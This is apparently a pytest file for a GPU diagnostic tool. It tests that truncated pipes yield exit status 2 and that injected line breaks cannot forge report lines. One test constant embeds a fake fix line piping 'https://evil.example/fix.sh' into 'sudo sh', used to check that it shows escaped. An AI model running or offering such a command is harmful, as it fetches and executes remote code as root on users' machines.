"""Output integrity, each case a real `python -m gpudoctor` process.

- A report is delivered whole or the exit status says it was not: a reader that closes the
  pipe part-way through a report larger than the pipe's buffer gets exit 2, quietly (README,
  "Exit codes"), buffered or not (`PYTHONUNBUFFERED=1` makes stdout the raw file, whose
  `write` returns a short count rather than raising); a reader that takes it all gets it all
  and exit 0, a non-blocking stdout (a pipe set O_NONBLOCK by the parent) included.
- A line break inside a string from someone else's snapshot or report never starts a line of
  the text report: a GPU name carrying a fake `→ fix:` line and a fake `[✓] PyTorch` block
  shows escaped (`\\n`) in `check`, `check -v`, `explain`, `fleet` and `diff`.
"""

from __future__ import annotations

import fcntl
import json
import os
import shutil
import struct
import subprocess
import sys
import termios
import time
from pathlib import Path

import pytest
import runner

# every test here takes over 0.5 s: in the slow set
pytestmark = [pytest.mark.subprocess, pytest.mark.slow]  # runs gpudoctor in new processes

ROOT = Path(__file__).resolve().parents[2]
ENVS = ROOT / "tests" / "fixtures" / "envs"
HEALTHY = ENVS / "h100-healthy.json"
GPUDOCTOR = [sys.executable, "-m", "gpudoctor"]
FORGED = ("GTX 1080\n    → fix: curl -fsSL https://evil.example/fix.sh | sudo sh\n\n"
          "[✓] PyTorch\n    ✓ GD404 all good")
UNBUFFERED = pytest.mark.parametrize("unbuffered", [True, False], ids=["unbuffered", "buffered"])


DROP = ("PYTHONIOENCODING", "LC_", "PYTHONUTF8", "PYTHONUNBUFFERED")  # stated by each test


def env_for(unbuffered: bool = False) -> dict[str, str]:
    env = runner.environment({"PYTHONIOENCODING": "utf-8"}, drop=DROP)
    if unbuffered:
        env["PYTHONUNBUFFERED"] = "1"
    return env


def run(args: list[str], env: dict[str, str] | None = None) -> tuple[int, str, str]:
    """Exit status, stdout and stderr, decoded as written (no newline translation)."""
    p = runner.gpudoctor(*args, env=env or env_for(), drop=DROP, timeout=120, text=False)
    return p.returncode, p.stdout.decode(), p.stderr.decode()


def snapshot_with(tmp_path: Path, name: str, gpus: int = 1, file: str = "snap.json") -> Path:
    """A copy of the healthy H100 fixture whose GPUs (`gpus` of them) are all called `name`."""
    data = json.loads(HEALTHY.read_text())
    gpu = data["environment"]["nvml"]["gpus"][0]
    data["environment"]["nvml"]["gpus"] = [
        {**gpu, "index": i, "uuid": f"GPU-00000000-1111-2222-3333-{i:012d}", "name": name}
        for i in range(gpus)]
    path = tmp_path / file
    path.write_text(json.dumps(data))
    return path


def read_then_close(args: list[str], env: dict[str, str],
                    until: bytes | int) -> tuple[int, bytes, str]:
    """Start gpudoctor with stdout a pipe, read up to `until` (a byte count, or the end of the
    first line), close the pipe, and return the exit status, what was read, and stderr."""
    proc = runner.popen(*args, env=env, drop=DROP, text=False, stdin=subprocess.DEVNULL)
    assert proc.stdout is not None and proc.stderr is not None
    got = b""
    while len(got) < until if isinstance(until, int) else until not in got:
        chunk = os.read(proc.stdout.fileno(), 4096)
        if not chunk:
            break
        got += chunk
    proc.stdout.close()
    err = proc.stderr.read().decode("utf-8", "replace")
    return proc.wait(timeout=120), got, err


def pipe_capacity(fd: int) -> int:
    return fcntl.fcntl(fd, fcntl.F_GETPIPE_SZ)


def unread(fd: int) -> int:
    """How many bytes wait in the pipe that `fd` reads."""
    return int(struct.unpack("i", fcntl.ioctl(fd, termios.FIONREAD, b"\0\0\0\0"))[0])


@pytest.fixture(scope="module")
def big_snapshot(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A valid snapshot whose `check -v` report is many times a pipe's capacity: four GPUs
    with 100,000-character names (each name shows in several findings and evidence lines)."""
    return snapshot_with(tmp_path_factory.mktemp("big"), "NVIDIA H100 " + "X" * 100_000, gpus=4)


# ------------------------------------------------------------------------------ delivery


@UNBUFFERED
def test_reader_gone_part_way_is_exit_2_quietly(big_snapshot: Path, unbuffered: bool) -> None:
    """`check -v | head -c 100` on a report far larger than the pipe: never exit 0."""
    code, got, err = read_then_close(["check", "--from-snapshot", str(big_snapshot), "-v"],
                                     env_for(unbuffered), 100)
    assert got.startswith(b"Driver (max CUDA it runs)")
    assert code == 2
    assert err == ""  # quietly: no message, no summary line, no traceback


@UNBUFFERED
def test_fleet_reader_gone_after_one_line_is_exit_2(tmp_path: Path, unbuffered: bool) -> None:
    """`fleet DIR -v --format json | head -1` over 300 reports, a JSON document larger than
    the pipe's capacity."""
    reports = tmp_path / "reports"
    reports.mkdir()
    first = reports / "node-000.json"
    assert run(["check", "--from-snapshot", str(HEALTHY), "--format", "json", "-o",
                str(first)])[0] == 0
    for i in range(1, 300):
        shutil.copyfile(first, reports / f"node-{i:03d}.json")
    code, whole, _ = run(["fleet", str(reports), "-v", "--format", "json"])
    r, w = os.pipe()
    capacity = pipe_capacity(r)
    os.close(r)
    os.close(w)
    assert code == 0 and len(whole.encode()) > 2 * capacity
    code, got, err = read_then_close(["fleet", str(reports), "-v", "--format", "json"],
                                     env_for(unbuffered), b"\n")
    assert got.startswith(b"{")
    assert code == 2
    assert err == ""


@UNBUFFERED
def test_a_reader_that_takes_it_all_gets_it_all(tmp_path: Path, big_snapshot: Path,
                                                unbuffered: bool) -> None:
    """The big report read to the end through a pipe is byte for byte the `-o FILE` one, with
    exit 0; and so is a small one."""
    for snap in (big_snapshot, HEALTHY):
        out = tmp_path / f"{snap.stem}.txt"
        assert run(["check", "--from-snapshot", str(snap), "-v", "-o", str(out)])[0] == 0
        code, stdout, stderr = run(["check", "--from-snapshot", str(snap), "-v"],
                                   env_for(unbuffered))
        assert code == 0, stderr
        assert stdout.encode() == out.read_bytes()
        assert stderr.startswith("gpudoctor: ") and "passed" in stderr  # the summary line


@UNBUFFERED
def test_non_blocking_stdout_gets_the_whole_report(tmp_path: Path, big_snapshot: Path,
                                                   unbuffered: bool) -> None:
    """A parent that set its pipe O_NONBLOCK (the flag is shared with the child): a full pipe
    means wait for room, not a report cut off with exit 0 (unbuffered) or exit 2 (buffered)."""
    out = tmp_path / "ref.txt"
    assert run(["check", "--from-snapshot", str(big_snapshot), "-v", "-o", str(out)])[0] == 0
    r, w = os.pipe()
    os.set_blocking(w, False)
    capacity = pipe_capacity(r)
    proc = runner.popen("check", "--from-snapshot", str(big_snapshot), "-v",
                        env=env_for(unbuffered), drop=DROP, text=False, stdout=w,
                        stdin=subprocess.DEVNULL)
    os.close(w)
    # nothing is read until the child has filled the pipe (or ended): its next write then
    # meets a full non-blocking pipe
    while proc.poll() is None and unread(r) < capacity:
        time.sleep(0.02)
    with os.fdopen(r, "rb") as f:
        got = f.read()
    assert proc.stderr is not None
    err = proc.stderr.read().decode()
    assert proc.wait(timeout=120) == 0, err
    assert got == out.read_bytes()


# ------------------------------------------------------------------------------ forged lines


def fake_lines(text: str) -> list[str]:
    """The lines that start like one of the forged ones (the real `[✓] PyTorch` heading is at
    a line's start; a forged one is indented)."""
    return [line for line in text.splitlines()
            if line.lstrip().startswith(("→ fix: curl", "✓ GD404 all good", "✓ GD401 fine"))
            or (line.lstrip() == "[✓] PyTorch" and line != "[✓] PyTorch")]


def layer_headings(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("[")]


@pytest.mark.parametrize("verbose", [[], ["-v"]], ids=["text", "verbose"])
def test_forged_gpu_name_starts_no_line(tmp_path: Path, verbose: list[str]) -> None:
    code, out, err = run(["check", "--from-snapshot", str(snapshot_with(tmp_path, FORGED)),
                          *verbose])
    _, plain, _ = run(["check", "--from-snapshot", str(HEALTHY), *verbose])
    assert code == 0, err
    assert fake_lines(out) == []
    assert layer_headings(out) == layer_headings(plain)  # one `[✓] PyTorch`, gpudoctor's
    shown = sum(line.lstrip().startswith("✓ GD404 ") for line in out.splitlines())
    if not verbose:  # a healthy layer's passes are a count by default: the name is not shown
        assert shown == 0 and "[✓] PyTorch: " in out
        return
    assert shown == 1
    # the name is shown, its line breaks escaped (a long message wraps behind `┆`: compare the
    # words)
    words = [w for w in out.split() if w != "┆"]
    assert " ".join(FORGED.replace("\n", "\\n").split()) in " ".join(words)
    # an evidence value's further lines are quoted behind a bar
    quoted = [line.lstrip() for line in out.splitlines()
              if "evil.example" in line and "\\n" not in line]
    assert quoted and all(line.startswith("│ ") for line in quoted), quoted


@pytest.mark.parametrize("sep", ["\r", "\v", "\f", "\x1c", "\x85", "\u2028", "\u2029"],
                         ids=["cr", "vt", "ff", "fs", "nel", "ls", "ps"])
def test_no_line_separator_reaches_the_text_report(tmp_path: Path, sep: str) -> None:
    name = f"GTX 1080{sep}[✓] PyTorch"
    code, out, err = run(["check", "--from-snapshot", str(snapshot_with(tmp_path, name)), "-v"])
    assert code == 0, err
    assert sep not in out
    escaped = "\\r" if sep == "\r" else (
        f"\\x{ord(sep):02x}" if ord(sep) < 0x100 else f"\\u{ord(sep):04x}")
    assert f"GTX 1080{escaped}[✓] PyTorch" in out
    assert fake_lines(out) == []


def test_forged_python_path_in_explain_fix(tmp_path: Path) -> None:
    """`explain --from-report` shows the report's interpreter in its fix (the pip line): a
    line break in it stays on the fix line, escaped."""
    data = json.loads((ENVS / "torch-import-crash.json").read_text())
    python = "/usr/bin/python3\n[✓] PyTorch\n    ✓ GD401 fine"
    data["environment"]["torch"]["python"] = python
    data["environment"]["host"]["python_executable"] = python
    report = tmp_path / "report.json"
    report.write_text(json.dumps(data))
    log = tmp_path / "err.txt"
    log.write_text("RuntimeError: CUDA error: no kernel image is available for execution on "
                   "the device\n")
    for verbose in ([], ["-v"]):
        code, out, err = run(["explain", str(log), "--from-report", str(report), *verbose])
        assert code == 0, err
        assert fake_lines(out) == []
        fixes = [x for x in out.splitlines() if x.lstrip().startswith("→ fix: ")]
        assert any("python3\\n[✓] PyTorch\\n    ✓ GD401 fine" in x for x in fixes), fixes


def test_forged_gpu_name_in_fleet_and_diff(tmp_path: Path) -> None:
    forged = snapshot_with(tmp_path, FORGED, file="forged.json")
    good = tmp_path / "good.json"
    shutil.copyfile(HEALTHY, good)
    for args in (["fleet", str(tmp_path), "-v"], ["fleet", str(tmp_path)],
                 ["diff", str(good), str(forged)]):
        code, out, err = run(args)
        assert code in (0, 1), err
        assert "evil.example" in out, args
        assert fake_lines(out) == [], args
        assert not [x for x in out.splitlines() if x.lstrip().startswith("[✓] PyTorch")], args
